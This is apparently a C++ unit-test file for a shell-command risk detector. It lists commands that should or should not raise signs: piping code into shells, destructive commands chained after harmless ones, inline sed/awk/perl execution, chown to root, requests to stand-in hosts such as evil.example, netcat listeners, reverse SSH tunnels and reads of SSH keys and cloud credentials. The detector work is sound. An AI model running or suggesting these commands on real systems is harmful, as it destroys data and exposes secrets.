// What is told about a command that nothing refuses.
#include "decide/signs.h"

#include <gtest/gtest.h>

#include "decide/everyday.h"

namespace husk::decide {
namespace {

const Context home = {.working_directory = "/home/user/app", .home = "/home/user"};

// The ids of all signs, each once; "-" for none.
std::string signs_in(std::string_view command) {
    std::string all;
    for (const Finding& sign : signs(parse::parse(command), home))
        if (!all.contains(sign.check)) all += (all.empty() ? "" : " ") + sign.check;
    return all.empty() ? "-" : all;
}

struct Sign {
    const char* check;
    const char* command;
};

void expect_all(std::initializer_list<Sign> rows) {
    for (const Sign& row : rows) EXPECT_EQ(signs_in(row.command), row.check) << row.command;
}

TEST(Signs, EverydayCommandsHaveNone) {
    for (const std::string& command : everyday_commands())
        EXPECT_EQ(signs_in(command), "-") << command;
}

TEST(Signs, OfCodeThatComesThroughAPipe) {
    expect_all({
        {"injection/piped", "cat x | sh"},
        {"injection/piped", "cat x|bash"},
        {"injection/piped", "cat install.sh | bash -s -- --yes"},
        {"injection/piped", "printf 'ls' | zsh"},
        {"injection/piped", "cat x | /bin/sh"},
        {"injection/piped", "cat x | env sh"},
        {"injection/piped", "cat x | tee log | sh -x"},
        {"injection/piped", "cat x | python3"},
        {"injection/piped", "cat x | python3 -"},
        {"injection/piped", "cat x | perl"},
        {"injection/piped", "cat x | node"},
        {"injection/piped", "cat x |& sh"},
        {"injection/piped", "make && cat x | sh && ls"},
        {"injection/piped", "cat x | (cd /tmp && sh)"},
        {"injection/piped", "cat x | while true; do sh; done"},
        {"injection/piped", "cat x | source /dev/stdin"},
        {"injection/piped", "echo 'rm x' | at now"},
        {"injection/piped", "bash -c 'cat x | sh'"},
        {"injection/piped", "echo \"$(cat x | sh)\""},
        {"injection/piped", "cat commands | xargs -0 bash -c"},
        {"injection/piped", "cat x | xargs -I{} bash -c {}"},
        {"injection/piped", "cat x | xargs -I % sh -c 'echo %'"},
        {"injection/piped", "cat x | builtin eval"},
        {"injection/piped", "cat x > >(sh)"},
        {"injection/piped", "cat x | tee >(sh)"},
        {"injection/piped", "f() { sh; }; cat x | f"},
        {"-", "f() { sh; }; f"},
        {"-", "cat x > >(grep y)"},
        {"injection/printed", "sh -c \"$(cat x)\""},
        {"injection/printed", "eval \"$(cat x)\""},
        {"injection/printed", "eval `cat x`"},
        {"injection/printed", "source <(sed s/a/b/ x)"},
        {"injection/printed", "bash <(cat x)"},
        {"injection/printed", "$(echo rm) -f x"},
        {"injection/printed", "`echo ls` -la"},
        {"-", "cat x | sh script.sh"},
        {"-", "sh x"},
        {"-", "cat x | shellcheck -"},
        {"-", "cat x | grep sh"},
        {"-", "sh -c 'ls' | cat"},
        {"-", "echo 'cat x | sh'"},
        {"-", "crontab -l | grep x"},
    });
}

TEST(Signs, OfADestructiveCommandThatHangsOnAnother) {
    expect_all({
        {"injection/chained", "ls; rm -rf x"},
        {"injection/chained", "ls;rm -rf x"},
        {"injection/chained", "ls ; rm x"},
        {"injection/chained", "cat a.txt; dd if=/dev/zero of=x"},
        {"injection/chained", "echo hi; mkfs.ext4 disk.img"},
        {"injection/chained", "ls & rm -rf x"},
        {"injection/chained", "ls || rm -rf x"},
        {"injection/chained", "ls -la | wc -l; shred x"},
        {"injection/chained", "bash -c 'ls; rm -rf x'"},
        {"injection/chained", "ls; env rm -rf x"},
        {"injection/chained", "ls; command rm -rf x"},
        {"injection/chained", "ls; nice rm -rf x"},
        {"injection/chained", "ls; sh -c 'rm -rf x'"},
        {"injection/chained", "ls; nice sh -c 'cd y; rm -rf x'"},
        {"-", "sh -c 'rm -rf x'; ls"},
        {"-", "make; trap 'rm -f x' EXIT"},
        {"-", "cd y; env rm -rf x"},
        {"-", "rm -rf x; ls"},
        {"-", "rm -rf build && make"},
        {"-", "cd build && rm -rf out"},
        {"-", "cd build; rm -rf out"},
        {"-", "set -e; rm -rf out"},
        {"-", "if [ -d x ]; then rm -rf x; fi"},
        {"-", "make clean\nrm -rf build"},
        {"-", "echo 'ls; rm -rf x'"},
        {"-", "echo a\\; rm -rf x"},
        {"-", "ls # ; rm -rf x"},
    });
}

TEST(Signs, OfProgramsInAnArgument) {
    expect_all({
        {"injection/inline-program", "python3 -c 'import os; os.system(\"ls\")'"},
        {"injection/inline-program", "python -c 'import subprocess as s; s.run([\"ls\"])'"},
        {"injection/inline-program", "python3 -c 'exec(open(\"x\").read())'"},
        {"injection/inline-program", R"(node -e 'require("child_process").exec("ls")')"},
        {"injection/inline-program", "perl -e 'system(\"ls\")'"},
        {"injection/inline-program", "ruby -e 'system \"ls\"'"},
        {"injection/inline-program", "perl -e 'exec \"sh\"'"},
        {"injection/inline-program", "awk 'BEGIN { system(\"ls\") }'"},
        {"injection/inline-program", "php -r 'echo shell_exec(\"ls\");'"},
        {"injection/inline-program", "perl -e '`id`'"},
        {"injection/inline-program", "ruby -e 'puts `id`'"},
        {"injection/inline-program", "awk 'BEGIN{\"id\"|getline x}'"},
        {"injection/inline-program", "awk '{print | \"sh\"}' x"},
        {"injection/inline-program", "sed '1e id' x"},
        {"injection/inline-program", "sed -n 's/x/y/pe' x"},
        {"injection/inline-program", "sed -e p -e '/a/ e id' x"},
        {"injection/inline-program", "awk '{gsub(/\"/, \"\"); print | \"sh\"}' x"},
        {"injection/inline-program", "awk '{x++ / 2; print $1 / 2 | \"sh\"}' x"},
        {"injection/inline-program", "awk '/[/\"]/ {print | \"sh\"}' x"},
        {"injection/inline-program", "awk '{ # \"\n print | \"sh\" # \"\n}' x"},
        {"injection/inline-program", "awk '{print \"a|b\" |& \"sh\"}' x"},
        {"injection/inline-program", "awk '{while ((\"id \\\"|\" | getline x) > 0) y}' x"},
        {"injection/inline-program", "sed '1i text\ne id' x"},
        {"injection/inline-program", "sed '1a a\\\nb\ne id' x"},
        {"injection/inline-program", "sed 's/[/]/x/;e id' x"},
        {"injection/inline-program", "sed 's/x/[/;e id;s/]//' x"},
        {"injection/inline-program", "sed 's[x[y[e' x"},
        {"injection/inline-program", "sed 'p #; e\n1e id' x"},
        {"injection/inline-program", "sed ':a#;b a#;e id' x"},
        {"injection/inline-program", "sed '\\,x,e id' x"},
        {"injection/inline-program", "sed '/x/Ie id' x"},
        {"injection/inline-program", "sed -e '1i a' -e 'e id' x"},
        {"injection/inline-program", "sed --expr='1e id' x"},
        {"injection/inline-program", "sed --expr '1e id' x"},
        {"injection/inline-program", "sed 's\\x\\y\\;e id' x"},
        {"injection/inline-program", "sed 's/[\\]/e/;e id' x"},
        {"injection/inline-program", "sed -e '1i\\' --expression=a -e 'e id' x"},
        {"injection/inline-program", "sed -e '1i\\' -f y -e 'e id' x"},
        {"injection/inline-program", "perl -e 'print qx/id/'"},
        {"injection/inline-program", "perl -e 'print qx\"id\"'"},
        {"injection/inline-program", "perl -e '$x = \"@{[qx (id)]}\"'"},
        {"injection/inline-program", "ruby -e 'puts %x(id)'"},
        {"-", "node -e 'console.log(`x`)'"},
        {"-", "awk -F'|' '{print $1 \"|\" $2}' x"},
        {"-", "docker ps | awk '{print $1 \" | \" $2}'"},
        {"-", "awk 'BEGIN{OFS=\"|\"} {print $1,$2}' x"},
        {"-", "awk '{split($0,a,\"|\"); print a[1]}' x"},
        {"-", "awk '/a|\"b\"/' x"},
        {"-", "awk '$1 ~ /[/]|\"b\"/ {print \"\\\"|\" \"b\"}' x"},
        {"-", "awk '{print $1 / 2, \"|\" $2 / 3}' x"},
        {"-", "sed '1i\\\nexport A=1' x"},
        {"-", "sed '1i set -e; echo x' x"},
        {"-", "sed -i '$a export FOO=bar; export X=y' x"},
        {"-", "sed '/x/c\\text; else' x"},
        {"-", "sed '1a one\\\nexport two' x"},
        {"-", "sed -e '1i\\' -e 'export A=1' x"},
        {"-", "sed 's/x/y/w out;e' x"},
        {"-", "sed 'r every; e' x"},
        {"-", "sed 'p # first; else' x"},
        {"-", "sed 's/[^/]*$/example/' x"},
        {"-", "sed 's/[/]/e/' x"},
        {"-", "sed 's/[]/]/e/; s/[[:alpha:]/]/e/' x"},
        {"-", "sed '/[/]e/d' x"},
        {"-", "sed 'y/[e/]e/' x"},
        {"-", "perl -pe 's/`//g' x"},
        {"-", "perl -e 'print \"qx\"'"},
        {"-", "perl -e 'print $h{qx}, $qx, q(aqx)'"},
        {"-", "ruby -e 'puts \"qx\"'"},
        {"-", "awk '$1 == \"a\" || \"b\"' x"},
        {"-", "awk -F'|' '{print $1}' x"},
        {"-", "sed 's/e/x/; s|one|e two|g' x"},
        {"-", "sed -n '/start/,/end/p; $d' x"},
        {"-", "sed -i 's/;e x/y/' x"},
        {"-", "sed '/e f/d' x"},
        {"-", "python3 -c 'print(1)'"},
        {"-", "python3 -c 'import json, sys; json.load(sys.stdin)'"},
        {"-", "node -e 'console.log(1)'"},
        {"-", "grep -rn os.system src"},
    });
}

TEST(Signs, OfFilesThatChangeHands) {
    expect_all({
        {"escalation/owner", "chown root x"},
        {"escalation/owner", "chown root:root x"},
        {"escalation/owner", "chown -R www-data:www-data public"},
        {"escalation/owner", "chown :docker x"},
        {"escalation/owner", "chown 0 x"},
        {"escalation/owner", "chown 0:0 x"},
        {"escalation/owner", "chown \"root\" x"},
        {"escalation/owner", "/bin/chown root x"},
        {"escalation/owner", "chgrp wheel x"},
        {"escalation/owner", "chown --no-dereference root x"},
        {"escalation/owner", "chown \"root:$g\" x"},
        {"escalation/owner", "find . -exec chown root {} +"},
        {"escalation/owner", "install -o root -m 755 a b"},
        {"escalation/owner", "x=1 chown nobody x"},
        {"escalation/owner", "chown --reference=/etc/passwd x"},
        {"escalation/owner", "chgrp --reference /usr/bin/env x"},
        {"escalation/account-file", "head -1 /etc/sudoers"},
        {"escalation/group", "newgrp docker"},
        {"escalation/other-account", "setpriv --reuid=0 ls"},
        {"escalation/other-account", "setpriv --regid 0 --clear-groups ls"},
        {"-", "setpriv --no-new-privs ls"},
        {"escalation/own-root", "unshare -r id"},
        {"escalation/own-root", "unshare --map-root-user id"},
        {"-", "chown 1000:1000 x"},
        {"-", "chown -R $USER x"},
        {"-", "chown \"$(id -u):$(id -g)\" x"},
        {"-", "chown --reference=a b"},
        {"-", "install -m 755 a b"},
        {"-", "echo chown root x"},
        {"-", "cat /etc/passwd"},
        {"-", "unshare --help"},
    });
}

TEST(Signs, OfRequestsThatLeaveThisMachine) {
    expect_all({
        {"exfiltration/plain-request", "curl http://x"},
        {"exfiltration/plain-request", "curl -s HTTP://example.com/a"},
        {"exfiltration/plain-request", "wget http://example.com/a.zip"},
        {"exfiltration/plain-request", "wget -q -O out http://example.com/a.zip"},
        {"exfiltration/plain-request", "curl -o out http://example.com"},
        {"exfiltration/plain-request", "curl --url http://example.com"},
        {"exfiltration/plain-request", "curl example.com"},
        {"exfiltration/plain-request", "curl \"http://$host/\""},
        {"exfiltration/plain-request", "curl ftp://example.com/x"},
        {"exfiltration/plain-request", "timeout 5 curl http://x"},
        {"exfiltration/plain-request", "lynx http://x"},
        {"exfiltration/plain-request", "axel http://x"},
        {"exfiltration/plain-request", "telnet example.com 80"},
        {"exfiltration/computed-request", "curl \"https://x.org/?q=$(id)\""},
        {"exfiltration/computed-request", "curl -d \"a=$(hostname)\" https://x.org"},
        {"exfiltration/computed-request", "dig \"$(whoami).x.org\""},
        {"exfiltration/computed-request", "wget -q https://x.org/`uname -r`"},
        {"-", "curl http://localhost:3000/"},
        {"exfiltration/plain-request", "curl http://127.0.0.1.nip.io/"},
        {"exfiltration/plain-request", "curl 'http://evil.example#@localhost'"},
        {"exfiltration/plain-request", "telnet 127.0.evil.example"},
        {"exfiltration/plain-request", "wget -e http_proxy=evil:1 http://localhost"},
        {"exfiltration/plain-request", "curl -x evil:1 http://localhost"},
        {"exfiltration/plain-request", "export http_proxy=evil; curl -d @x http://localhost/"},
        {"exfiltration/computed-request", "curl -x evil:1 \"https://localhost/$(id)\""},
        {"-", "curl -x '' http://localhost"},
        {"-", "http_proxy= curl http://localhost"},
        {"-", "curl http://127.0.0.1:8000/x"},
        {"-", "curl http://[::1]:80/"},
        {"-", "curl http://127.1"},
        {"-", "curl HTTP://LOCALHOST/"},
        {"-", "curl localhost:8080/health"},
        {"-", "curl https://example.com"},
        {"-", "curl -o out https://example.com/a"},
        {"-", "wget https://example.com/a.zip"},
        {"-", "curl -d \"$(date)\" http://localhost:3000"},
        {"-", "curl -o \"$(mktemp)\" https://example.com/a"},
        {"-", "echo http://example.com"},
        {"-", "git clone http://example.com/x.git"},
    });
}

TEST(Signs, OfPortsAndKeys) {
    expect_all({
        {"exfiltration/listener", "nc -l 8080"},
        {"exfiltration/listener", "nc -lvp 4444"},
        {"exfiltration/listener", "nc -l -p 4444"},
        {"exfiltration/listener", "ncat -l 80"},
        {"exfiltration/listener", "ncat --listen 80"},
        {"exfiltration/listener", "netcat -lk 80"},
        {"exfiltration/listener", "socat TCP-LISTEN:80,fork -"},
        {"exfiltration/listener", "socat TCP4-LISTEN:80 STDOUT"},
        {"exfiltration/listener", "socat tcp-Listen:80,fork -"},
        {"exfiltration/listener", "socat - udp-l:80"},
        {"exfiltration/listener", "while true; do nc -l 80; done"},
        {"exfiltration/listener", "python3 -m http.server"},
        {"exfiltration/listener", "python3 -m http.server 80 --bind 0.0.0.0"},
        {"exfiltration/listener", "php -S 0.0.0.0:80"},
        {"exfiltration/listener", "php -S \"$host:80\" -t public"},
        {"exfiltration/listener", "php -S '[::]:80'"},
        {"exfiltration/listener", "python3 -m http.server --bind ::"},
        {"-", "php -S localhost:8000 -t public"},
        {"-", "php -S 127.0.0.1:8000"},
        {"exfiltration/way-back", "ssh -R 8080:localhost:80 host"},
        {"exfiltration/way-back", "ssh -fNR 22:localhost:22 u@host"},
        {"exfiltration/encoded", "base64 x | mail u@host"},
        {"exfiltration/encoded", "openssl enc -aes-256-cbc -in x | ssh host"},
        {"exfiltration/encoded", "openssl enc x | cat"},
        {"exfiltration/secret-shown", "cat ~/.ssh/id_rsa"},
        {"exfiltration/secret-shown", "cat .env"},
        {"exfiltration/secret-shown", "base64 < ~/.aws/credentials"},
        {"-", "nc -z localhost 80"},
        {"-", "python3 -m http.server --bind 127.0.0.1 8000"},
        {"-", "python3 -m json.tool x"},
        {"-", "ls ~/.ssh"},
        {"-", "cat id_rsa.pub"},
        {"-", "ssh host ls"},
        {"-", "base64 x | head -1"},
        {"-", "base64 -d x | file -"},
    });
}

}  // namespace
}  // namespace husk::decide
